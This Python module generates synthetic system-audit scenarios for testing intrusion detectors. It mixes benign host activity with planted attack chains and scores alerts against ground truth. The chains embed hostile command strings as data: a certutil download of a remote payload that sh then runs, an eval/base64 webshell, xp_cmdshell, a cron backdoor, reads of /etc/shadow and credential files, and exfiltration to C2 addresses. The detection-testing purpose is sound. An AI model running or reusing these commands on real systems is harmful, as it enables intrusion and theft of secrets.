"""Synthetic audit-stream scenarios with ground truth, and alert scoring.

Benign traffic comes from a fixed set of host templates whose per-window
footprints cycle deterministically, so a model trained on one benign
capture transfers to any seed.  Attack chains are planted as ordered
stages that share nodes (forked processes, dropped payloads) so their
per-window subgraphs link into one campaign.
"""

from __future__ import annotations

import json
import os
import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Set, Tuple

from .ingest import DEFAULT_WINDOW_SECONDS, _entity
from .model import FILE, IP, PROCESS

SCENARIOS = ("benign-only", "apt-webshell", "apt-sql-hijack", "apt-long-gap")

DEFAULT_RATE = 40.0  # events per second per host
DEFAULT_DURATION = 60.0


@dataclass
class GenConfig:
    duration: float = DEFAULT_DURATION
    rate: float = DEFAULT_RATE
    hosts: int = 1
    window_seconds: float = DEFAULT_WINDOW_SECONDS
    attack_start: int = 12
    stage_step: int = 2
    gap: int = 55


def proc_entity(pid: int, name: str, cmdline: str, uid: int = 1000) -> dict:
    return {"kind": PROCESS, "pid": pid, "tid": pid, "uid": uid,
            "name": name, "cmdline": cmdline}


def file_entity(path: str) -> dict:
    return {"kind": FILE, "path": path}


def ip_entity(src_ip: str, src_port: int, dst_ip: str, dst_port: int) -> dict:
    return {"kind": IP, "src_ip": src_ip, "src_port": src_port,
            "dst_ip": dst_ip, "dst_port": dst_port}


def entity_id(entity: dict, host: str) -> str:
    """NodeId of a generated entity, derived as the event parser derives it."""
    return _entity(entity, host, 0, {}).id


@dataclass(slots=True)
class Interaction:
    src: dict
    op: str
    dst: dict
    attack: bool = False


def _client_quad(i: int) -> dict:
    return ip_entity("10.0.2.%d" % (10 + i), 50000 + i, "10.0.0.5", 80)


class BenignHost:
    """Fixed per-host template set; footprints cycle with the window index.

    The steady templates (web server, database, build, shell, packages)
    repeat a small closed node pool.  The jittery templates (browser,
    updater, telemetry, indexer) touch one or two never-seen-before
    entities per window, which keeps a realistic population of mildly
    anomalous processes alive at run time.
    """

    def __init__(self, host: str, pid_base: int, rng: random.Random):
        self.host = host
        self.rng = rng
        p = pid_base
        self.nginx = proc_entity(p + 1, "nginx", "nginx: worker process")
        self.postgres = proc_entity(p + 2, "postgres", "postgres -D /var/lib/postgresql/data")
        self.make = proc_entity(p + 3, "make", "make -j4 all")
        self.cc = proc_entity(p + 4, "cc1", "cc1 -quiet -O2 main.c")
        self.bash = proc_entity(p + 5, "bash", "bash -l")
        self.ps = proc_entity(p + 6, "ps", "ps aux")
        self.apt = proc_entity(p + 7, "apt-get", "apt-get update")
        self.firefox = proc_entity(p + 8, "firefox", "firefox --new-tab about:home")
        self.updaterd = proc_entity(p + 9, "updaterd", "updaterd --check --quiet")
        self.telemetryd = proc_entity(p + 10, "telemetryd", "telemetryd --flush --batch")
        self.indexerd = proc_entity(p + 11, "indexerd", "indexerd --scan /home/user/docs")
        self.clients = [_client_quad(i) for i in range(4)]
        self.mirror = ip_entity("10.0.0.5", 42000, "151.101.0.81", 80)
        self.cdn = ip_entity("10.0.0.5", 42001, "151.101.1.140", 443)

    def _hex(self, bits: int = 24) -> str:
        return "%06x" % self.rng.getrandbits(bits)

    def interactions(self, w: int) -> List[Interaction]:
        v = w % 3
        out: List[Interaction] = []

        def add(src, op, dst):
            out.append(Interaction(src, op, dst))

        web = self.nginx
        if v == 0:
            add(web, "read", file_entity("/var/www/html/index.html"))
            add(web, "write", file_entity("/var/log/nginx/access.log"))
            add(web, "sendto", self.clients[0])
            add(web, "recvfrom", self.clients[1])
        elif v == 1:
            add(web, "read", file_entity("/var/www/html/app.css"))
            add(web, "read", file_entity("/var/www/html/app.js"))
            add(web, "write", file_entity("/var/log/nginx/access.log"))
            add(web, "sendto", self.clients[2])
        else:
            add(web, "read", file_entity("/var/www/html/index.html"))
            add(web, "read", file_entity("/var/www/html/app.css"))
            add(web, "write", file_entity("/var/log/nginx/access.log"))
            add(web, "recvfrom", self.clients[3])

        db = self.postgres
        wal = file_entity("/var/lib/postgresql/pg_wal/000000010000000000000001")
        if v == 0:
            add(db, "read", file_entity("/var/lib/postgresql/base/16384"))
            add(db, "write", file_entity("/var/lib/postgresql/base/16384"))
            add(db, "write", wal)
        elif v == 1:
            add(db, "read", file_entity("/var/lib/postgresql/base/16385"))
            add(db, "read", file_entity("/var/lib/postgresql/postgresql.conf"))
            add(db, "write", wal)
        else:
            add(db, "write", file_entity("/var/lib/postgresql/base/16386"))
            add(db, "read", file_entity("/var/lib/postgresql/base/16384"))
            add(db, "write", wal)

        add(self.make, "read", file_entity("/src/Makefile"))
        add(self.make, "fork", self.cc)
        if v == 0:
            add(self.cc, "read", file_entity("/src/main.c"))
            add(self.cc, "write", file_entity("/build/main.o"))
        elif v == 1:
            add(self.cc, "read", file_entity("/src/util.c"))
            add(self.cc, "read", file_entity("/src/util.h"))
            add(self.cc, "write", file_entity("/build/util.o"))
        else:
            add(self.cc, "read", file_entity("/src/main.c"))
            add(self.cc, "read", file_entity("/src/util.h"))
            add(self.cc, "write", file_entity("/build/main.o"))

        if v == 0:
            add(self.bash, "read", file_entity("/home/admin/.bashrc"))
            add(self.bash, "fork", self.ps)
            add(self.ps, "read", file_entity("/proc/stat"))
            add(self.bash, "write", file_entity("/tmp/session.log"))
        elif v == 1:
            add(self.bash, "read", file_entity("/home/admin/.profile"))
            add(self.bash, "write", file_entity("/tmp/session.log"))
        else:
            add(self.bash, "fork", self.ps)
            add(self.ps, "read", file_entity("/proc/meminfo"))
            add(self.bash, "read", file_entity("/home/admin/.bashrc"))

        if w % 6 == 4:
            add(self.apt, "read", file_entity("/etc/apt/sources.list"))
            add(self.apt, "sendto", self.mirror)
            add(self.apt, "write", file_entity("/var/lib/apt/lists/partial/archive"))

        self._jitter(out, self.firefox, "read", "/home/user/.mozilla/profile.ini",
                     "/home/user/.cache/mozilla/c-%s.tmp", self.cdn)
        self._jitter(out, self.updaterd, "read", "/etc/updaterd/channels.conf",
                     "/var/cache/updaterd/pkg-%s.tmp",
                     ip_entity("10.0.0.5", 42002, "151.101.2.30", 443))
        self._jitter(out, self.telemetryd, "read", "/var/lib/telemetry/state.db",
                     "/var/lib/telemetry/batch-%s.json",
                     ip_entity("10.0.0.5", 42003, "151.101.3.44", 443))
        self._jitter(out, self.indexerd, "write", "/var/lib/indexer/segments.db",
                     "/home/user/docs/draft-%s.md",
                     ip_entity("10.0.0.5", 42004, "151.101.4.58", 443))
        return out

    def _jitter(self, out: List[Interaction], proc: Dict[str, object], stable_op: str,
                stable_path: str, novel_fmt: str, quad: Dict[str, object]) -> None:
        """One steady touch plus a window-varying count of fresh entities."""
        out.append(Interaction(proc, stable_op, file_entity(stable_path)))
        out.append(Interaction(proc, "sendto", quad))
        for _ in range(self.rng.randrange(0, 4)):
            out.append(Interaction(proc, "write", file_entity(novel_fmt % self._hex())))
        if self.rng.randrange(0, 2):
            dst = quad["dst_ip"]
            out.append(Interaction(proc, "sendto", ip_entity(
                "10.0.0.5", self.rng.randrange(40000, 60000), dst, 443)))


def _webshell_chain(cfg: GenConfig) -> Dict[int, List[Interaction]]:
    s = cfg.attack_start
    step = cfg.stage_step
    php = proc_entity(701, "php-fpm", "php-fpm: pool www eval base64 kqxz77 decode")
    lol = proc_entity(702, "certutil", "certutil -urlcache -split -f http://198.51.100.7/p.bin qz.bin")
    sh = proc_entity(703, "sh", "sh -c /tmp/.qz.bin --daemon zkw931")
    att1 = ip_entity("198.51.100.7", 4444, "10.0.0.5", 80)
    att1b = ip_entity("10.0.0.5", 48990, "198.51.100.7", 443)
    att2 = ip_entity("10.0.0.5", 49001, "198.51.100.7", 80)
    att2b = ip_entity("10.0.0.5", 49003, "198.51.100.8", 80)
    c2 = ip_entity("10.0.0.5", 49002, "203.0.113.66", 443)
    c2b = ip_entity("10.0.0.5", 49005, "203.0.113.67", 443)
    shell = file_entity("/var/www/html/.cache.php")
    dropper = file_entity("/var/www/html/.up.php")
    conf = file_entity("/var/www/html/config.inc")
    payload = file_entity("/tmp/.qz.bin")
    staging = file_entity("/tmp/.qz.tmp")
    certs = file_entity("/etc/ssl/cert.pem")
    lock = file_entity("/var/tmp/.qz.lock")
    keydb = file_entity("/home/user/.mozilla/key4.db")
    hosts = file_entity("/etc/hosts.allow")
    loot = file_entity("/tmp/.sx1.tgz")
    shadow = file_entity("/etc/shadow")

    def a(src, op, dst):
        return Interaction(src, op, dst, attack=True)

    scan = [ip_entity("10.0.0.5", 49100 + i, "10.0.0.%d" % (20 + i), 445) for i in range(4)]
    stages = {
        s: [a(php, "recvfrom", att1), a(php, "write", shell), a(php, "read", shell),
            a(php, "write", dropper), a(php, "read", conf), a(php, "sendto", att1b)],
        s + step: [a(php, "fork", lol), a(lol, "sendto", att2), a(lol, "write", payload),
                   a(lol, "write", staging), a(lol, "read", certs), a(lol, "sendto", att2b)],
        s + 2 * step: [a(lol, "fork", sh), a(sh, "read", payload), a(sh, "sendto", c2),
                       a(sh, "write", lock), a(sh, "read", keydb)],
        s + 3 * step: [a(sh, "read", payload), a(sh, "sendto", c2)] +
                      [a(sh, "sendto", q) for q in scan],
        s + 4 * step: [a(sh, "read", shadow), a(sh, "read", hosts), a(sh, "write", loot),
                       a(sh, "sendto", c2), a(sh, "sendto", c2b)],
    }
    return stages


def _sql_hijack_chain(cfg: GenConfig) -> Dict[int, List[Interaction]]:
    s = cfg.attack_start
    step = max(2, cfg.stage_step)
    pg = proc_entity(711, "postgres", "postgres: hijacked backend lo_export zzkq11 run")
    cmd = proc_entity(712, "sh", "sh -c xp_cmdshell mimic qqz19x stage")
    att = ip_entity("192.0.2.99", 51234, "10.0.0.5", 5432)
    exfil = ip_entity("10.0.0.5", 49201, "192.0.2.100", 443)
    exfil2 = ip_entity("10.0.0.5", 49204, "192.0.2.101", 443)
    creds = file_entity("/var/lib/postgresql/secrets/credentials.dat")
    master = file_entity("/var/lib/postgresql/secrets/master.key")
    rogue = file_entity("/var/lib/postgresql/base/.rogue.tmp")
    passwd = file_entity("/etc/passwd")
    psout = file_entity("/tmp/.ps.out")
    dump = file_entity("/tmp/.dump.sql")
    archive = file_entity("/tmp/.dump.tgz")

    def a(src, op, dst):
        return Interaction(src, op, dst, attack=True)

    svc = file_entity("/var/lib/postgresql/secrets/pg_service.conf")
    att2 = ip_entity("192.0.2.99", 51250, "10.0.0.5", 5432)
    stages = {
        s: [a(pg, "recvfrom", att), a(pg, "read", creds), a(pg, "read", master),
            a(pg, "write", rogue), a(pg, "read", svc), a(pg, "recvfrom", att2)],
        s + step: [a(pg, "fork", cmd), a(cmd, "write", dump), a(cmd, "read", passwd),
                   a(cmd, "write", psout), a(cmd, "read", rogue), a(cmd, "sendto", att)],
        s + 2 * step: [a(cmd, "read", dump), a(cmd, "read", creds), a(cmd, "write", archive),
                       a(cmd, "sendto", exfil), a(cmd, "sendto", exfil2)],
    }
    return stages


def _long_gap_chain(cfg: GenConfig) -> Dict[int, List[Interaction]]:
    s = cfg.attack_start
    backdoor = proc_entity(721, "cron", "cron -f backdoor qkz83 beacon loop")
    stage2 = proc_entity(722, "implant", "/var/lib/.implant --resume qkz83")
    c2a = ip_entity("10.0.0.5", 49301, "198.51.100.200", 8443)
    c2b = ip_entity("10.0.0.5", 49302, "198.51.100.201", 443)
    crontab = file_entity("/etc/cron.d/.hidden")
    implant = file_entity("/var/lib/.implant")
    implantcfg = file_entity("/var/lib/.implant.cfg")
    swp = file_entity("/var/log/.cron.swp")
    shadow = file_entity("/etc/gshadow")
    loot = file_entity("/tmp/.sx2.tgz")

    def a(src, op, dst):
        return Interaction(src, op, dst, attack=True)

    stages = {
        s: [a(backdoor, "recvfrom", c2a), a(backdoor, "read", crontab),
            a(backdoor, "write", implant), a(backdoor, "write", implantcfg),
            a(backdoor, "write", swp), a(backdoor, "sendto", c2a)],
        s + cfg.gap: [a(backdoor, "read", implant), a(backdoor, "fork", stage2),
                      a(stage2, "read", implantcfg), a(stage2, "read", shadow),
                      a(stage2, "write", loot), a(stage2, "sendto", c2b)],
    }
    return stages


_CHAINS = {
    "benign-only": lambda cfg: {},
    "apt-webshell": _webshell_chain,
    "apt-sql-hijack": _sql_hijack_chain,
    "apt-long-gap": _long_gap_chain,
}


def generate_scenario(name: str, seed: int,
                      config: Optional[GenConfig] = None) -> Tuple[List[dict], dict]:
    """Build (events, truth) for a named scenario, deterministic in seed."""
    if name not in SCENARIOS:
        raise ValueError("unknown scenario %r, expected one of %s" % (name, list(SCENARIOS)))
    cfg = config or GenConfig()
    if cfg.attack_start < 0 or cfg.stage_step < 1 or cfg.gap < 1:
        raise ValueError("attack_start must be 0 or more and stage_step and gap 1 or more, "
                         "got %d, %d and %d" % (cfg.attack_start, cfg.stage_step, cfg.gap))
    if cfg.hosts < 1:
        raise ValueError("hosts must be 1 or more, got %d" % cfg.hosts)
    for field, value in (("rate", cfg.rate), ("duration", cfg.duration)):
        if not 0.0 < value < float("inf"):  # NaN fails the comparison too
            raise ValueError("%s must be finite and above 0, got %r" % (field, value))
    n_windows = int(cfg.duration / cfg.window_seconds)
    if n_windows < 1:
        raise ValueError("duration shorter than one window")
    stages = _CHAINS[name](cfg)
    if stages and max(stages) >= n_windows:
        raise ValueError(
            "scenario %s needs at least %d windows, duration gives %d"
            % (name, max(stages) + 1, n_windows))

    rng = random.Random(seed)
    window_ms = int(round(cfg.window_seconds * 1000.0))
    per_window = max(1, int(round(cfg.rate * cfg.window_seconds)))
    hosts = [BenignHost("host%d" % h, 100 + 1000 * h, rng)
             for h in range(cfg.hosts)]

    events: List[dict] = []
    nodes: Dict[str, bool] = {}
    campaign: Set[str] = set()

    def record(inter: Interaction, host: str):
        for ent in (inter.src, inter.dst):
            nid = entity_id(ent, host)
            if inter.attack:
                nodes[nid] = True
                campaign.add(nid)
            else:
                nodes.setdefault(nid, False)

    for w in range(n_windows):
        base_ts = w * window_ms
        for host_tpl in hosts:
            host = host_tpl.host
            benign = host_tpl.interactions(w)
            attack = stages.get(w, []) if host_tpl is hosts[0] else []
            distinct = benign + attack
            if attack and len(distinct) > per_window:
                raise ValueError("scenario %s needs %d events in window %d, the rate allows %d"
                                 % (name, len(distinct), w, per_window))
            chosen = list(distinct)
            while len(chosen) < per_window:
                chosen.append(benign[rng.randrange(len(benign))])
            step = window_ms / len(chosen)
            for i, inter in enumerate(chosen[:per_window] if len(chosen) > per_window
                                      else chosen):
                record(inter, host)
                events.append({
                    "ts": base_ts + int(i * step),
                    "host": host,
                    "op": inter.op,
                    "src": inter.src,
                    "dst": inter.dst,
                })
    events.sort(key=lambda e: (e["ts"], e["host"], e["op"],
                               json.dumps(e["src"], sort_keys=True),
                               json.dumps(e["dst"], sort_keys=True)))
    truth = {
        "nodes": {nid: nodes[nid] for nid in sorted(nodes)},
        "campaigns": [sorted(campaign)] if campaign else [],
    }
    return events, truth


def write_scenario(name: str, seed: int, out_dir: str,
                   config: Optional[GenConfig] = None) -> Tuple[str, str]:
    """Write events.jsonl and truth.json under out_dir; returns the paths."""
    events, truth = generate_scenario(name, seed, config)
    os.makedirs(out_dir, exist_ok=True)
    events_path = os.path.join(out_dir, "events.jsonl")
    truth_path = os.path.join(out_dir, "truth.json")
    with open(events_path, "w", encoding="utf-8") as fh:
        for e in events:
            fh.write(json.dumps(e, sort_keys=True))
            fh.write("\n")
    with open(truth_path, "w", encoding="utf-8") as fh:
        json.dump(truth, fh, sort_keys=True, indent=2)
        fh.write("\n")
    return events_path, truth_path


def graph_metrics(alerts: Sequence, truth: dict) -> Tuple[float, float]:
    """Campaign-level scoring: an alert is a true positive if it contains
    at least one attack node; a campaign with no covering alert is missed."""
    attack = {n for n, flag in truth["nodes"].items() if flag}
    campaigns = [set(c) for c in truth["campaigns"]]
    gtp = gfp = 0
    for alert in alerts:
        if not attack.isdisjoint(alert["members"]):
            gtp += 1
        else:
            gfp += 1
    covered = 0
    for camp in campaigns:
        if any(not camp.isdisjoint(a["members"]) for a in alerts):
            covered += 1
    gfn = len(campaigns) - covered
    precision = gtp / (gtp + gfp) if (gtp + gfp) else 1.0
    recall = covered / len(campaigns) if campaigns else 1.0
    if gfn and not alerts:
        recall = 0.0
    return precision, recall


def node_metrics(alerts: Sequence, truth: dict) -> Tuple[float, float]:
    """Entity-level scoring over the union of alert members."""
    attack = {n for n, flag in truth["nodes"].items() if flag}
    union: Set[str] = set()
    for alert in alerts:
        union.update(alert["members"])
    ntp = len(union & attack)
    nfp = len(union - attack)
    nfn = len(attack - union)
    precision = ntp / (ntp + nfp) if (ntp + nfp) else 1.0
    recall = ntp / (ntp + nfn) if (ntp + nfn) else 1.0
    return precision, recall


def evaluate(alerts: Sequence, truth: dict) -> dict:
    gp, gr = graph_metrics(alerts, truth)
    np_, nr = node_metrics(alerts, truth)
    return {
        "graph_precision": gp,
        "graph_recall": gr,
        "node_precision": np_,
        "node_recall": nr,
        "alerts": len(alerts),
        "no_alerts": not alerts,
    }
